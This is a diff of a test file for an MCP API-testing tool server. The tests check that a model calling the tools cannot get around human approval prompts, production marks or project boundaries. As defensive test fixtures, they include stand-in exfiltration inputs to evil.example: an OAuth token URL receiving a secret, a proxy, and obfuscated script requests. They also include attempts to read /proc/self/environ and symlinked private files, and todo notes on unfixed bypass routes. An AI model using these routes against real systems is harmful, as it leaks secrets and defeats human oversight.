@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict'
 import { existsSync } from 'node:fs'
-import { writeFile } from 'node:fs/promises'
+import { readFile, symlink, writeFile } from 'node:fs/promises'
 import path from 'node:path'
 import { describe, it } from 'node:test'
 import { setTimeout as wait } from 'node:timers/promises'
@@ -9,6 +9,7 @@ import { deedOf, nothing } from '../mcp/testing/observe.ts'
 import {
   allow,
   type Ask,
+  type Called,
   type ClientOptions,
   type Era,
   eras,
@@ -17,6 +18,7 @@ import {
   type ToolClient,
 } from '../mcp/testing/tool-client.ts'
 import type { JsonObject, JsonValue } from '../util/json-value.ts'
+import { mapping } from '../util/read-values.ts'
 import { type Files, runShell, withFolder } from '../testing/run-program.ts'
 
 interface Scene {
@@ -44,6 +46,13 @@ function inScene(
     assert.deepEqual(client.noise, [])
     assert.doesNotMatch(client.output + client.errors, /\n\s+at |node:internal|\/dist\//)
   })
+}
+
+/** The command that a client is told that cannot ask, on a line of its own. */
+function commandIn(told: string): string {
+  const [command = '', ...others] = told.split('\n').filter(line => line.startsWith('apitest '))
+  assert.deepEqual([command === '', others], [false, []], told)
+  return command.replace(/^apitest/, 'APITEST')
 }
 
 const post = (url: string, path = '/x'): JsonObject => ({ step: { request: `POST ${url}${path}` } })
@@ -181,10 +190,16 @@ describe('a call in Manual', () => {
   )
 })
 
+/** A state that was not made here is an error of the protocol: nothing is done, and nobody is asked. */
+function assertForeign({ message, question }: Called, name: string): void {
+  assert.equal(mapping(message['error'])['code'], -32_602, `${name}: ${JSON.stringify(message)}`)
+  assert.equal(question, undefined, name)
+}
+
 describe('the state of a question of 2026', () => {
   const yes = { action: 'accept', content: { answer: 'Allow' } }
 
-  it('is of no use when it is tampered with, for another call, or for another tool', () =>
+  it('is an error when it is tampered with, and asked about again for another call', () =>
     inScene({ era: '2026' }, async ({ client, url, deed }) => {
       const asked = await client.once('send_request', post(url))
       const state = asked.state ?? ''
@@ -192,8 +207,10 @@ describe('the state of a question of 2026', () => {
         for (let index = 0; index < state.length; index += 7) {
           const tampered = `${state.slice(0, index)}${state[index] === 'x' ? 'y' : 'x'}${state.slice(index + 1)}`
           const called = await client.once('send_request', post(url), replyTo(tampered, yes))
-          assert.notEqual(called.question, undefined, `at ${index}`)
+          assertForeign(called, `at ${index}`)
         }
+        for (const tampered of [`${state}.`, `${state}.x`, state.slice(0, -1), `${state} `, 'a.b', '.'])
+          assertForeign(await client.once('send_request', post(url), replyTo(tampered, yes)), tampered)
         for (const [tool, input] of [
           ['send_request', post(url, '/y')],
           ['send_request', { ...post(url), history: true }],
@@ -206,6 +223,8 @@ describe('the state of a question of 2026', () => {
       assert.deepEqual(did, nothing)
       const done = await deed(() => client.once('send_request', post(url), replyTo(state, yes)))
       assert.deepEqual(done.sent, ['POST /x'])
+      const again = await client.once('send_request', post(url), replyTo(state, yes))
+      assert.notEqual(again.question, undefined)
     }))
 
   it('counts once, also for two that come at once', () =>
@@ -229,7 +248,10 @@ describe('the state of a question of 2026', () => {
     inScene({ era: '2026' }, async ({ client, folder, url, deed }) => {
       await using other = await toolClient({ era: '2026', folder })
       const state = (await other.once('send_request', post(url))).state ?? ''
-      assert.deepEqual(await deed(() => client.once('send_request', post(url), replyTo(state, yes))), nothing)
+      const did = await deed(async () => {
+        assertForeign(await client.once('send_request', post(url), replyTo(state, yes)), 'of another')
+      })
+      assert.deepEqual(did, nothing)
     }))
 
   it('is not taken from another place than its own', () =>
@@ -250,30 +272,24 @@ describe('the state of a question of 2026', () => {
       assert.deepEqual(did, nothing)
     }))
 
-  it(
-    'holds what the user was shown: files that change meanwhile are asked about again',
-    {
-      todo: 'the state is bound to the arguments only: what a suite, a saved request, a data file or the configuration says may change between question and answer',
-    },
-    () =>
-      inScene(
-        { era: '2026' },
-        async ({ client, folder, url, deed }) => {
-          const input = { paths: ['a.apitest.yaml'] }
-          const asked = await client.once('run_suites', input)
-          assert.match(asked.question ?? '', /GET .*\/harmless/)
-          await writeFile(
-            path.join(folder, 'a.apitest.yaml'),
-            `suite: A\nsteps:\n  - request: DELETE ${url}/all\n`,
-          )
-          const did = await deed(() => client.once('run_suites', input, replyTo(asked.state ?? '', yes)))
-          assert.deepEqual(did.sent, [])
-        },
-        { 'a.apitest.yaml': 'suite: A\nsteps:\n  - request: GET URL/harmless\n' },
-      ),
-  )
+  it('holds what the user was shown: files that change meanwhile are asked about again', () =>
+    inScene(
+      { era: '2026' },
+      async ({ client, folder, url, deed }) => {
+        const input = { paths: ['a.apitest.yaml'] }
+        const asked = await client.once('run_suites', input)
+        assert.match(asked.question ?? '', /GET .*\/harmless/)
+        await writeFile(
+          path.join(folder, 'a.apitest.yaml'),
+          `suite: A\nsteps:\n  - request: DELETE ${url}/all\n`,
+        )
+        const did = await deed(() => client.once('run_suites', input, replyTo(asked.state ?? '', yes)))
+        assert.deepEqual(did.sent, [])
+      },
+      { 'a.apitest.yaml': 'suite: A\nsteps:\n  - request: GET URL/harmless\n' },
+    ))
 
-  it('holds the same for a request that is saved', { todo: 'as above' }, () =>
+  it('holds the same for a request that is saved', () =>
     inScene({ era: '2026' }, async ({ client, url, deed }) => {
       const agree = async (tool: string, input: JsonObject): Promise<void> => {
         const { state = '' } = await client.once(tool, input)
@@ -285,8 +301,7 @@ describe('the state of a question of 2026', () => {
       await agree('save_request', { into: 'Shop', steps: [{ name: 'Two', request: `DELETE ${url}/all` }] })
       const did = await deed(() => client.once('run_suites', { paths: ['Shop'] }, replyTo(state, yes)))
       assert.deepEqual(did.sent, [])
-    }),
-  )
+    }))
 })
 
 describe('questions that are open at once', () => {
@@ -347,6 +362,14 @@ const live = (method: string): JsonObject => ({
   environment: 'live',
   step: { request: `${method} {{base}}/p` },
 })
+
+/** An environment that a person has marked as production. */
+async function markByHand(folder: string, url: string): Promise<void> {
+  const input = { name: 'prod', set: { base: url }, unset: [], production: true }
+  const line = `APITEST operation change-environment '${JSON.stringify(input)}'`
+  const { exitCode, output, errors } = await runShell(folder, line)
+  assert.equal(exitCode, 0, output + errors)
+}
 
 describe('a call in Auto', () => {
   inBoth('is done unasked', era =>
@@ -418,9 +441,9 @@ describe('a call in Auto', () => {
           told = (await client.call('send_request', live('POST'))).text
         })
         assert.deepEqual(did.sent, [])
-        const [, command = ''] = /terminal: (apitest .*)\.$/m.exec(told) ?? []
-        assert.match(command, /--production/)
-        const { exitCode, output, errors } = await runShell(folder, command.replace(/^apitest/, 'APITEST'))
+        const command = commandIn(told)
+        assert.match(command, /"production":true/)
+        const { exitCode, output, errors } = await runShell(folder, command)
         assert.equal(exitCode, 0, output + errors)
         assert.equal(seen.length, 1)
       },
@@ -438,108 +461,90 @@ describe('a call in Auto', () => {
       production,
     ))
 
-  it(
-    'puts load on production when its user allows it',
-    {
-      todo: 'the preview of load_test refuses with production-unasked, so that nobody is ever asked, and the hint (--production) is nothing that the model can do',
-    },
-    () =>
-      inScene(
-        { era: '2026', args: ['--mode', 'auto'], ask: allow },
-        async ({ client, deed }) => {
-          const input = { paths: ['r.apitest.yaml'], environment: 'live', callers: 1, requests: 3 }
-          assert.equal((await deed(() => client.call('load_test', input))).sent.length, 3)
-        },
-        production,
-      ),
-  )
+  it('puts load on production when its user allows it', () =>
+    inScene(
+      { era: '2026', args: ['--mode', 'auto'], ask: allow },
+      async ({ client, deed }) => {
+        const input = { paths: ['r.apitest.yaml'], environment: 'live', callers: 1, requests: 3 }
+        assert.equal((await deed(() => client.call('load_test', input))).sent.length, 3)
+      },
+      production,
+    ))
 
-  it(
-    'is done after the one Allow for production, whatever the tool',
-    {
-      todo: 'record_pact has no preview: its question does not say that production is changed, is signed without it, and comes back after every Allow',
-    },
-    () =>
-      inScene(
-        { era: '2026', args: ['--mode', 'auto', '--tools', 'all'], ask: allow },
-        async ({ client, deed }) => {
-          const input = { paths: ['w.apitest.yaml'], consumer: 'a', provider: 'b' }
-          let question: string | undefined
-          const did = await deed(async () => {
-            question = (await client.call('record_pact', input)).question
-          })
-          assert.match(client.questions.join(), /CHANGES DATA IN PRODUCTION/)
-          assert.deepEqual([did.sent, question], [['POST /w'], undefined])
-        },
-        production,
-      ),
-  )
+  it('is done after the one Allow for production, whatever the tool', () =>
+    inScene(
+      { era: '2026', args: ['--mode', 'auto', '--tools', 'all'], ask: allow },
+      async ({ client, deed }) => {
+        const input = { paths: ['w.apitest.yaml'], consumer: 'a', provider: 'b' }
+        let question: string | undefined
+        const did = await deed(async () => {
+          question = (await client.call('record_pact', input)).question
+        })
+        assert.match(client.questions.join(), /CHANGES DATA IN PRODUCTION/)
+        assert.deepEqual([did.sent, question], [['POST /w'], undefined])
+      },
+      production,
+    ))
 
-  it(
-    'asks before a script changes data in production, however it is written',
-    {
-      todo: 'changesData looks for the text "sendRequest" in scripts: `pm["send" + "Request"]` is not seen, and sends a DELETE in production unasked',
-    },
-    () =>
-      inScene(
-        { era: '2026', args: ['--mode', 'auto'] },
-        async ({ client, url, deed }) => {
-          const before = `pm['send' + 'Request']({ url: '${url}/script', method: 'DELETE' })`
-          const step = { request: 'GET {{base}}/p', scripts: { before } }
-          const did = await deed(() => client.call('send_request', { environment: 'live', step }))
-          assert.deepEqual(
-            did.sent.filter(sent => sent.startsWith('DELETE')),
-            [],
-          )
-        },
-        production,
-      ),
-  )
+  it('asks before a script changes data in production, however it is written', () =>
+    inScene(
+      { era: '2026', args: ['--mode', 'auto'] },
+      async ({ client, url, deed }) => {
+        const before = `pm['send' + 'Request']({ url: '${url}/script', method: 'DELETE' })`
+        const step = { request: 'GET {{base}}/p', scripts: { before } }
+        const did = await deed(() => client.call('send_request', { environment: 'live', step }))
+        assert.deepEqual(
+          did.sent.filter(sent => sent.startsWith('DELETE')),
+          [],
+        )
+      },
+      production,
+    ))
 
-  it(
-    'asks before an environment loses its mark of production',
-    {
-      todo: 'change_environment takes `production: false` from the model: in Auto the mark is gone without a question, and the next POST goes through',
-    },
-    () =>
-      inScene(
-        { era: '2026', args: ['--mode', 'auto', '--tools', 'all'] },
-        async ({ client, url, deed }) => {
-          await client.call('change_environment', {
-            name: 'prod',
-            set: { base: url },
-            unset: [],
-            production: true,
-          })
-          await client.call('change_environment', { name: 'prod', set: {}, unset: [], production: false })
-          const did = await deed(() =>
-            client.call('run_suites', { paths: ['r.apitest.yaml'], environment: 'prod' }),
-          )
-          assert.deepEqual(did.sent, ['GET /r'])
-          assert.notDeepEqual(client.questions, [])
-        },
-        production,
-      ),
-  )
+  it('takes no mark of production from an environment, nor gives it one', () =>
+    inScene(
+      { era: '2026', args: ['--mode', 'auto', '--tools', 'all'] },
+      async ({ client, folder, url, deed }) => {
+        await markByHand(folder, url)
+        const did = await deed(async () => {
+          for (const production of [false, true, null, 'false'])
+            for (const more of [{}, { newName: 'other' }]) {
+              const input = { name: 'prod', set: {}, unset: [], production, ...more }
+              const called = await client.call('change_environment', input)
+              assert.equal(called.isError, true)
+              assert.match(called.text, /"production" is not a key here/)
+            }
+        })
+        assert.deepEqual([did, client.questions], [nothing, []])
+        const step = { request: 'POST {{base}}/p' }
+        assert.deepEqual(
+          (await deed(() => client.call('send_request', { environment: 'prod', step }))).sent,
+          [],
+        )
+        assert.match(client.questions.join(), /CHANGES DATA IN PRODUCTION: .*prod/)
+      },
+    ))
 
-  it(
-    'asks before an environment that is marked gets other values, is renamed or deleted',
-    { todo: 'change_environment and delete_environment run unasked in Auto for marked environments, too' },
-    () =>
-      inScene(
-        { era: '2026', args: ['--mode', 'auto', '--tools', 'all'] },
-        async ({ client, url }) => {
-          await client.call('change_environment', {
-            name: 'prod',
-            set: { base: url },
-            unset: [],
-            production: true,
-          })
-          await client.call('delete_environment', { name: 'prod' })
-          assert.notDeepEqual(client.questions, [])
-        },
-        production,
-      ),
+  inBoth('asks before an environment that is marked gets other values, is renamed or deleted', era =>
+    inScene({ era, args: ['--mode', 'auto', '--tools', 'all'] }, async ({ client, folder, url, deed }) => {
+      await markByHand(folder, url)
+      client.ask = answering({ action: 'decline' })
+      for (const [tool, input] of [
+        ['change_environment', { set: { base: 'http://evil.example' }, unset: [] }],
+        ['change_environment', { set: {}, unset: ['base'] }],
+        ['change_environment', { set: {}, unset: [], newName: 'other' }],
+        ['delete_environment', {}],
+      ] as const) {
+        const count = client.questions.length
+        assert.deepEqual(await deed(() => client.call(tool, { name: 'prod', ...input })), nothing)
+        const asked = client.questions.slice(count)
+        assert.equal(asked.length, 1, tool)
+        assert.match(asked.join(), /CHANGES DATA IN PRODUCTION: .*prod/)
+      }
+      client.ask = allow
+      const did = await deed(() => client.call('delete_environment', { name: 'prod' }))
+      assert.ok(did.changed.includes('.tool/api-collections.json'))
+    }),
   )
 })
 
@@ -549,6 +554,9 @@ describe('what only a person says', () => {
     'allowExec',
     'allow',
     'targetIsMine',
+    'configurationFile',
+    'environmentFile',
+    'test',
     'foreground',
     'allowMany',
     'showsSecrets',
@@ -672,34 +680,49 @@ describe('what only a person says', () => {
     ),
   )
 
-  it(
-    'is not said by a configuration that the model names',
-    {
-      todo: "`configurationFile` is the model's: one with `allow-exec: true`, or without the mark of production, takes the place of the project's",
-    },
-    () =>
-      inScene(
-        { era: '2026', args: ['--mode', 'auto'] },
-        async ({ client, folder, deed }) => {
-          await client.once('run_suites', { paths: ['x.apitest.yaml'], configurationFile: 'other.yaml' })
-          assert.equal(existsSync(path.join(folder, 'made.txt')), false)
-          const did = await deed(() =>
-            client.once('send_request', { ...live('POST'), configurationFile: 'other.yaml' }),
-          )
-          assert.deepEqual(did.sent, [])
-        },
-        {
-          ...production,
-          'other.yaml': 'allow-exec: true\nenvironments:\n  live: { variables: { base: URL } }\n',
-        },
-      ),
-  )
+  it('is not said by a configuration that the model names', () =>
+    inScene(
+      { era: '2026', args: ['--mode', 'auto'] },
+      async ({ client, folder, deed }) => {
+        const input = { paths: ['x.apitest.yaml'], configurationFile: 'other.yaml' }
+        const { text } = await client.once('run_suites', input)
+        assert.match(text, /"configurationFile" is not a key here/)
+        assert.equal(existsSync(path.join(folder, 'made.txt')), false)
+        const did = await deed(() =>
+          client.once('send_request', { ...live('POST'), configurationFile: 'other.yaml' }),
+        )
+        assert.deepEqual(did.sent, [])
+      },
+      {
+        ...production,
+        'other.yaml': 'allow-exec: true\nenvironments:\n  live: { variables: { base: URL } }\n',
+      },
+    ))
+
+  for (const tool of ['run_command', 'wait_for_health'])
+    inBoth(`is whether ${tool} runs a command in Manual`, era =>
+      inScene({ era }, async ({ client, folder, deed }) => {
+        const input = {
+          ...(tool === 'run_command' ? {} : { urls: ['http://127.0.0.1:1/'] }),
+          timeout: 3000,
+          command: 'touch made.txt',
+        }
+        for (const answer of Object.values(refusals)) {
+          client.ask = answering(answer)
+          assert.deepEqual(await deed(() => client.call(tool, input)), nothing)
+          assert.match(client.questions.at(-1) ?? '', /Runs the command "touch made\.txt"/)
+        }
+        client.ask = allow
+        await client.call(tool, input)
+        assert.equal(existsSync(path.join(folder, 'made.txt')), true)
+      }),
+    )
 
   for (const tool of ['run_command', 'wait_for_health'])
     it(
       `is whether ${tool} runs a command in Auto`,
       {
-        todo: '`run_command`, `wait_for_health` (command, test) and `verify_pacts` (stateCommand) run any shell line in Auto without --allow-exec',
+        todo: 'in Auto `run_command`, `wait_for_health` (command) and `verify_pacts` (stateCommand) run any shell line without --allow-exec, which holds back the commands of suites only (docs/assistant.md has commands in the class `traffic`)',
       },
       () =>
         inScene({ era: '2026', args: ['--mode', 'auto'] }, async ({ client, folder }) => {
@@ -724,179 +747,163 @@ describe('a question', () => {
       production,
     ))
 
-  it(
-    'tells all hosts that get something',
-    {
-      todo: "previewPlan tells only the action's own URL: not the token URL of OAuth 2 (which gets the client secret), the proxy, or what scripts send",
-    },
-    () =>
-      inScene({ era: '2026' }, async ({ client, url }) => {
-        const request = `GET ${url}/good`
-        for (const more of [
-          {
-            auth: {
-              oauth2: {
-                'token-url': 'http://evil.example/token',
-                'client-id': 'a',
-                'client-secret': '{{env.HOME}}',
-              },
-            },
-          },
-          { proxy: 'http://evil.example:8080' },
-          { scripts: { before: "pm.sendRequest('http://evil.example/x')" } },
-        ] as readonly JsonObject[])
-          assert.match(
-            (await client.once('send_request', { step: { request, ...more } })).question ?? '',
-            /evil\.example/,
-          )
-      }),
-  )
-
-  it(
-    'tells a command to its end',
-    {
-      todo: 'quoted() cuts at 200 characters, and run_command, wait_for_health and verify_pacts have no preview: what comes behind is run and not shown',
-    },
-    () =>
-      inScene({ era: '2026' }, async ({ client }) => {
-        const command = `echo ${'building '.repeat(25)}; touch hidden.txt`
-        const { question = '' } = await client.once('run_command', { command })
-        assert.match(question, /touch hidden\.txt/)
-      }),
-  )
-
-  it(
-    'tells the commands of services, which a run starts',
-    {
-      todo: 'previewPlan knows nothing of `services` of the configuration: run_suites and load_test run their commands after a question that tells only requests, and without --allow-exec',
-    },
-    () =>
-      inScene(
-        { era: '2026' },
-        async ({ client }) => {
-          const { question = '' } = await client.once('run_suites', { paths: ['r.apitest.yaml'] })
-          assert.match(question, /touch service\.txt/)
+  const others: Readonly<Record<string, JsonObject>> = {
+    'where a token is fetched': {
+      auth: {
+        oauth2: {
+          'token-url': 'http://evil.example/token',
+          'client-id': 'a',
+          'client-secret': '{{env.HOME}}',
         },
-        {
-          'r.apitest.yaml': 'suite: R\nsteps:\n  - request: GET URL/r\n',
-          'apitest.config.yaml':
-            'services:\n  - { name: shop, command: "touch service.txt", url: "http://127.0.0.1:{{service.port}}/" }\n',
-        },
-      ),
-  )
-
-  it(
-    'tells what is waited for',
-    { todo: 'sendingOf takes the text of the action key: of `wait: [URL]` it says `Sends "wait"`' },
-    () =>
-      inScene(
-        { era: '2026' },
-        async ({ client }) => {
-          const { question = '' } = await client.once('run_suites', { paths: ['r.apitest.yaml'] })
-          assert.match(question, /evil\.example/)
-        },
-        { 'r.apitest.yaml': 'suite: R\nsteps:\n  - wait: ["http://evil.example/health"]\n' },
-      ),
-  )
-
-  it(
-    'tells of what is saved whether it has scripts',
-    {
-      todo: 'an argument is shown with its first 200 characters: behind a long URL, save_request and save_step save scripts, auth and files that nobody has seen',
+      },
     },
-    () =>
-      inScene({ era: '2026' }, async ({ client }) => {
-        const step = { request: `GET http://a.example/${'a'.repeat(250)}`, scripts: { before: 'evil()' } }
-        const { question = '' } = await client.once('save_request', { into: 'Shop', steps: [step] })
-        assert.match(question, /script/)
-      }),
-  )
+    'the proxy': { proxy: 'http://evil.example:8080' },
+    'what it connects to in the place of the host': { resolve: { 'a.example:80': 'evil.example:80' } },
+    'what a script sends': { scripts: { before: "pm.sendRequest('http://evil.example/x')" } },
+  }
+  for (const [what, more] of Object.entries(others))
+    it(
+      `tells ${what}`,
+      what === 'what a script sends'
+        ? {
+            todo: 'the question about a request says nothing of its scripts, neither that there are any nor what they say (previewPlan)',
+          }
+        : {},
+      () =>
+        inScene({ era: '2026' }, async ({ client }) => {
+          const step = { request: 'GET http://a.example/good', ...more }
+          const called = await client.once('send_request', { step })
+          assert.match(called.question ?? called.text, /evil\.example/)
+          assert.notEqual(called.question, undefined, called.text)
+        }),
+    )
 
-  it(
-    'tells what is most dangerous of many requests',
-    {
-      todo: '`listed` names the first five in file order: a DELETE to another host behind five harmless requests is only counted',
-    },
-    () =>
-      inScene(
-        { era: '2026' },
-        async ({ client }) => {
-          const { question = '' } = await client.once('run_suites', { paths: ['many.apitest.yaml'] })
-          assert.match(question, /DELETE/)
-          assert.match(question, /evil\.example/)
-        },
-        {
-          'many.apitest.yaml': `suite: Many\nsteps:\n${Array.from({ length: 6 }, (_, at) => `  - request: GET http://h${at}.example/${at}\n`).join('')}  - request: DELETE http://evil.example/all\n`,
-        },
-      ),
-  )
+  it('tells a command to its end', () =>
+    inScene({ era: '2026' }, async ({ client }) => {
+      const command = `echo ${'building '.repeat(25)}; touch hidden.txt`
+      const { question = '' } = await client.once('run_command', { command })
+      assert.match(question, /touch hidden\.txt/)
+    }))
 
-  it(
-    'sends nothing by itself',
-    { todo: 'prepareRun fetches `spec` and check_contract its description before anybody is asked' },
-    () =>
-      inScene(
-        { era: '2026' },
-        async ({ client, url, deed }) => {
-          const did = await deed(async () => {
-            await client.once('run_suites', {
-              paths: ['r.apitest.yaml'],
-              environment: 'test',
-              spec: `${url}/spec.json`,
-            })
-            await client.once('load_test', { paths: ['r.apitest.yaml'], environment: 'test' })
-            await client.once('check_contract', { spec: `${url}/spec2.json`, baseUrl: url })
-            await client.once('import_document', { source: `${url}/spec3.json` })
+  it('tells the commands of services, which a run starts', () =>
+    inScene(
+      { era: '2026' },
+      async ({ client }) => {
+        const { question = '' } = await client.once('run_suites', { paths: ['r.apitest.yaml'] })
+        assert.match(question, /touch service\.txt/)
+      },
+      {
+        'r.apitest.yaml': 'suite: R\nsteps:\n  - request: GET URL/r\n',
+        'apitest.config.yaml':
+          'services:\n  - { name: shop, command: "touch service.txt", url: "http://127.0.0.1:{{service.port}}/" }\n',
+      },
+    ))
+
+  it('tells what is waited for', () =>
+    inScene(
+      { era: '2026' },
+      async ({ client }) => {
+        const { question = '' } = await client.once('run_suites', { paths: ['r.apitest.yaml'] })
+        assert.match(question, /evil\.example/)
+      },
+      { 'r.apitest.yaml': 'suite: R\nsteps:\n  - wait: ["http://evil.example/health"]\n' },
+    ))
+
+  it('tells of what is saved whether it has scripts', () =>
+    inScene({ era: '2026' }, async ({ client }) => {
+      const step = { request: `GET http://a.example/${'a'.repeat(250)}`, scripts: { before: 'evil()' } }
+      const { question = '' } = await client.once('save_request', { into: 'Shop', steps: [step] })
+      assert.match(question, /script/)
+    }))
+
+  it('tells what is most dangerous of many requests', () =>
+    inScene(
+      { era: '2026' },
+      async ({ client }) => {
+        const { question = '' } = await client.once('run_suites', { paths: ['many.apitest.yaml'] })
+        assert.match(question, /DELETE/)
+        assert.match(question, /evil\.example/)
+      },
+      {
+        'many.apitest.yaml': `suite: Many\nsteps:\n${Array.from({ length: 6 }, (_, at) => `  - request: GET http://h${at}.example/${at}\n`).join('')}  - request: DELETE http://evil.example/all\n`,
+      },
+    ))
+
+  it('sends nothing by itself', () =>
+    inScene(
+      { era: '2026' },
+      async ({ client, url, deed }) => {
+        const did = await deed(async () => {
+          await client.once('run_suites', {
+            paths: ['r.apitest.yaml'],
+            environment: 'test',
+            spec: `${url}/spec.json`,
           })
-          assert.deepEqual(did, nothing)
-        },
-        production,
-      ),
-  )
+          await client.once('load_test', { paths: ['r.apitest.yaml'], environment: 'test' })
+          await client.once('check_contract', { spec: `${url}/spec2.json`, baseUrl: url })
+          await client.once('import_document', { source: `${url}/spec3.json` })
+        })
+        assert.deepEqual(did, nothing)
+      },
+      production,
+    ))
 })
 
 describe('a tool that changes the project', () => {
-  it(
-    'changes nothing outside of it unasked',
-    {
-      todo: 'save_step, generate_pact, record_pact (output) and start_mock (record) take absolute paths and ../ in Auto',
-    },
-    () =>
-      withFolder(
-        { 'theirs.apitest.yaml': 'suite: Theirs\nsteps:\n  - request: GET http://a.example/\n' },
-        outside =>
-          inScene({ era: '2026', args: ['--mode', 'auto'] }, async ({ client }) => {
+  inBoth('changes nothing outside of it unasked', era =>
+    withFolder(
+      { 'theirs.apitest.yaml': 'suite: Theirs\nsteps:\n  - request: GET http://a.example/\n' },
+      outside =>
+        inScene(
+          { era, args: ['--mode', 'auto', '--tools', 'all'] },
+          async ({ client, folder, url }) => {
+            client.ask = answering({ action: 'decline' })
+            const relative = path.relative(folder, outside)
+            await runShell(folder, 'APITEST run s.apitest.yaml --reporter json=r.json')
+            const steps = [{ request: 'GET http://evil.example/' }]
             const did = await deedOf(outside, [], async () => {
-              for (const name of ['theirs.apitest.yaml', 'new.apitest.yaml']) {
-                const file = path.join(outside, name)
-                await client.once('save_step', { file, steps: [{ request: 'GET http://evil.example/' }] })
-              }
+              for (const place of [outside, relative, `./x/../${relative}`])
+                for (const [tool, input] of [
+                  ['save_step', { file: `${place}/theirs.apitest.yaml`, steps }],
+                  ['save_step', { file: `${place}/new.apitest.yaml`, steps }],
+                  ['generate_pact', { report: 'r.json', consumer: 'a', provider: 'b', output: place }],
+                  ['record_pact', { paths: ['s.apitest.yaml'], consumer: 'a', provider: 'b', output: place }],
+                  ['start_mock', { files: [], name: 'm', proxy: url, record: `${place}/new.apitest.yaml` }],
+                  ['compile_source', { source: 's.apitest.yaml', to: 'suite', outputFolder: `${place}/out` }],
+                ] as const) {
+                  const count = client.questions.length
+                  const { text, isError } = await client.call(tool, input)
+                  const asked = client.questions.slice(count).join('\n')
+                  if (tool !== 'compile_source')
+                    assert.match(asked, /WRITES OUTSIDE OF THE PROJECT/, `${tool} ${place}: ${text}`)
+                  assert.ok(isError || tool === 'compile_source', text)
+                }
             })
             assert.deepEqual(did, nothing)
-          }),
-      ),
+          },
+          { 's.apitest.yaml': 'suite: S\nsteps:\n  - request: GET URL/s\n' },
+        ),
+    ),
   )
 })
 
 describe('a tool that only looks', () => {
-  it(
-    'sends nothing',
-    {
-      todo: 'compare_contracts, validate_body and compile_source are `read` and fetch any URL: traffic without a question in Manual (SSRF, and a way out for what the model knows)',
-    },
-    () =>
-      inScene({ era: '2026', args: ['--tools', 'all'] }, async ({ client, url, deed }) => {
-        const did = await deed(async () => {
-          await client.once('compare_contracts', { before: `${url}/?secret=1`, after: `${url}/b` })
-          await client.once('validate_body', {
-            source: `${url}/body`,
-            direction: 'response',
-            schema: 'a.json',
-          })
-          await client.once('compile_source', { source: `${url}/src`, to: 'suite', outputFolder: 'out' })
-        })
-        assert.deepEqual(did, nothing)
-      }),
+  inBoth('sends nothing unasked, and what it asks names where', era =>
+    inScene({ era, args: ['--tools', 'all'] }, async ({ client, url, deed }) => {
+      client.ask = answering({ action: 'decline' })
+      const did = await deed(async () => {
+        for (const [tool, input] of [
+          ['compare_contracts', { documents: [`${url}/?secret=1`, `${url}/b`] }],
+          ['validate_body', { source: `${url}/body`, direction: 'response', schema: 'a.json' }],
+          ['compile_source', { source: `${url}/src`, to: 'suite', outputFolder: 'out' }],
+        ] as const) {
+          const count = client.questions.length
+          await client.call(tool, input)
+          assert.ok(client.questions.slice(count).join().includes(url), tool)
+        }
+      })
+      assert.deepEqual(did, nothing)
+    }),
   )
 
   it('sends nothing from a script', () =>
@@ -906,29 +913,57 @@ describe('a tool that only looks', () => {
       assert.deepEqual(did, nothing)
     }))
 
-  it(
-    'tells nothing of files outside the project',
-    {
-      todo: 'problems quote lines of any file: `configurationFile`, `environmentFile`, `source`, `schema`, `paths` may be absolute; /proc/self/environ tells the environment',
-    },
-    () =>
-      withFolder({ 'private.txt': 'hunter2hunter2 is the word\n' }, async outside => {
-        await inScene(
-          { era: '2026', args: ['--tools', 'all'], environment: { AAA_FIRST: 'hunter2hunter2' } },
-          async ({ client }) => {
-            const file = path.join(outside, 'private.txt')
-            for (const source of [file, '/proc/self/environ']) {
-              await client.once('check_suites', { paths: ['a.apitest.yaml'], configurationFile: source })
-              await client.once('check_suites', { paths: [source] })
-              await client.once('validate_body', { source, direction: 'response', schema: 'a.json' })
-              await client.once('compare_contracts', { before: source, after: source })
-              await client.once('read_proto', { question: 'list', step: { proto: source } })
-            }
-            assert.doesNotMatch(client.output, /hunter2/)
-          },
-        )
-      }),
-  )
+  it('tells nothing of files outside the project', () =>
+    withFolder({ 'private.txt': 'hunter2hunter2 is the word\n' }, async outside => {
+      await inScene(
+        { era: '2026', args: ['--tools', 'all'], environment: { AAA_FIRST: 'hunter2hunter2' } },
+        async ({ client }) => {
+          const file = path.join(outside, 'private.txt')
+          for (const source of [file, '/proc/self/environ']) {
+            await client.once('check_suites', { paths: ['a.apitest.yaml'], configurationFile: source })
+            await client.once('check_suites', { paths: [source] })
+            await client.once('validate_body', { source, direction: 'response', schema: 'a.json' })
+            await client.once('compare_contracts', { documents: [source, source] })
+            await client.once('compile_source', { source, to: 'suite', outputFolder: 'out' })
+            await client.once('read_proto', { question: 'list', step: { proto: source } })
+          }
+          assert.doesNotMatch(client.output, /hunter2/)
+        },
+      )
+    }))
+
+  const ways: Readonly<Record<string, string>> = {
+    'by variables':
+      'reachedBy looks at each text of the input as it is: `{{a}}{{b}}`, or variables that make a path, reach any file unasked; read_proto tells what is in a .proto file, and of others the word that it stumbles over',
+    'by a link in the project':
+      'reachedBy compares paths as they are written: a symbolic link in the project is followed unasked',
+  }
+  for (const [way, todo] of Object.entries(ways))
+    it(`tells nothing of files outside the project that are named ${way}`, { todo }, () =>
+      withFolder({ 'private.txt': 'hunter2hunter2 is the word\n' }, outside =>
+        inScene({ era: '2026', args: ['--tools', 'all'] }, async ({ client, folder }) => {
+          await symlink(path.join(outside, 'private.txt'), path.join(folder, 'link.txt'))
+          const isLink = way === 'by a link in the project'
+          const proto = isLink ? 'link.txt' : '{{folder}}/{{name}}.txt'
+          const variables = { folder: outside, name: 'private' }
+          const parts = { folder: outside.slice(0, 3), name: `${outside.slice(3)}/private` }
+          const named = isLink ? [variables] : [variables, parts]
+          for (const given of named) {
+            const place = given === parts ? '{{folder}}{{name}}.txt' : proto
+            const input = isLink ? {} : { variables: given }
+            await client.once('read_proto', { ...input, question: 'list', step: { proto: place } })
+            const step = { request: 'POST http://a.example/', file: place }
+            await client.once('rehearse_request', { ...input, step })
+          }
+          if (isLink) {
+            await client.once('check_suites', { paths: ['link.txt'] })
+            const body = { source: 'link.txt', direction: 'response', schema: 'a.json' }
+            await client.once('validate_body', body)
+          }
+          assert.doesNotMatch(client.output, /hunter2/)
+        }),
+      ),
+    )
 })
 
 describe('the command that a client is told that cannot ask', () => {
@@ -947,10 +982,10 @@ describe('the command that a client is told that cannot ask', () => {
       for (const value of hostile) {
         const input = { step: { request: `POST ${url}/hand`, json: { value } } }
         const { text } = await client.once('send_request', input)
